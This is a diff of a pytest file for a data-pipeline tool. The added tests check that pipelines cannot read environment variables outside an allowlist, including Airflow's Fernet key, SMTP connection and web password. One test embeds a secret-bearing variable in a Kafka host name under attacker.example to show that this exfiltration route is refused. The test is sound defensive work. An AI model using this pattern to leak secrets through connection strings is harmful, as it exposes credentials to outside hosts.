@@ -12,13 +12,19 @@ import pytest
 
 from streamkeeper.declare.model import Source, pipeline_from_json, pipeline_to_json, without_code
 from streamkeeper.errors import DeclarationError, SettingsError
-from streamkeeper.manifest.environment import opened, variables
+from streamkeeper.manifest.environment import opened, opened_if_possible, variables
 from streamkeeper.manifest.import_file import fingerprint
-from streamkeeper.settings import Settings
+from streamkeeper.settings import PIPELINE_ENV, Settings
 from tests.worlds.pipelines import TAIL, load
 
 BROKER = {"kafka.bootstrap.servers": "broker:9092"}
 KAFKA = {**BROKER, "subscribe": "orders"}
+
+
+@pytest.fixture(autouse=True)
+def seen(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Let pipelines see the variables that these tests name."""
+    monkeypatch.setenv(PIPELINE_ENV, "ORDERS_*,LIMIT,ONE,PORT")
 
 
 def text(**parameters: Any) -> str:
@@ -255,13 +261,52 @@ def test_the_environment_is_filled_in_where_the_source_is_opened_and_nowhere_bef
         format="kafka",
         options={**KAFKA, "kafka.bootstrap.servers": "{env:ONE}:{env:PORT},{env:ONE}:9093"},
     )
-    settings = Settings.from_environment({})
+    settings = Settings.from_environment({PIPELINE_ENV: "ONE,PORT"})
     assert source.options["kafka.bootstrap.servers"] == "{env:ONE}:{env:PORT},{env:ONE}:9093"
     assert variables(source) == ("ONE", "PORT")
     found = opened(source, settings, {"ONE": "host", "PORT": "1"})
     assert found.options["kafka.bootstrap.servers"] == "host:1,host:9093"
     with pytest.raises(SettingsError, match=r"^p.py, line 2: the source raw needs PORT in the environment"):
         opened(source, settings, {"ONE": "host", "PORT": ""})
+
+
+REFUSED = {
+    "not named by the setting": (
+        "HOME_OF_ALL",
+        "HOME_OF_ALL is not among .* STREAMKEEPER_PIPELINE_ENV names ORDERS_.*Add it there",
+    ),
+    "a password of Airflow's": (
+        "AIRFLOW__CORE__FERNET_KEY",
+        "AIRFLOW__CORE__FERNET_KEY is Airflow's own, which no pipeline may see",
+    ),
+    "a connection of Airflow's": ("AIRFLOW_CONN_SMTP_DEFAULT", "AIRFLOW_CONN_SMTP_DEFAULT is Airflow's own"),
+    "what Airflow's image is given": (
+        "_AIRFLOW_WWW_USER_PASSWORD",
+        "_AIRFLOW_WWW_USER_PASSWORD is Airflow's own",
+    ),
+}
+
+
+@pytest.mark.parametrize(("name", "message"), REFUSED.values(), ids=REFUSED.keys())
+@pytest.mark.parametrize("format", ["kafka", "json"])
+def test_a_variable_that_pipelines_may_not_see_is_refused_where_it_is_declared_and_where_it_would_be_opened(
+    name: str, message: str, format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(name, "s3cr3t")
+    if name.startswith(("AIRFLOW", "_AIRFLOW")):
+        monkeypatch.setenv(PIPELINE_ENV, "ORDERS_BROKERS,*")
+    options = {**KAFKA, "kafka.bootstrap.servers": f"{{env:{name}}}.attacker.example:9092"}
+    given: dict[str, Any] = {"format": "kafka", "options": options}
+    if format == "json":
+        given = {"format": "json", "path": "/x", "options": {"pathGlobFilter": f"{{env:{name}}}"}}
+    with pytest.raises(DeclarationError, match=rf"^p\.py, line 2: source raw: {message}"):
+        declare(tmp_path, **given)
+    source = replace(declare(tmp_path, format="kafka", options=KAFKA), options=given["options"])
+    with pytest.raises(SettingsError, match=rf"^p\.py, line 2: the source raw cannot be opened: {message}"):
+        opened(source, Settings.from_environment())
+    assert "s3cr3t" not in repr(opened_if_possible(source, Settings.from_environment())), (
+        "the monitor opens it so, in Airflow's process"
+    )
 
 
 def test_a_table_of_the_warehouse_is_opened_by_its_path(tmp_path: Path) -> None:
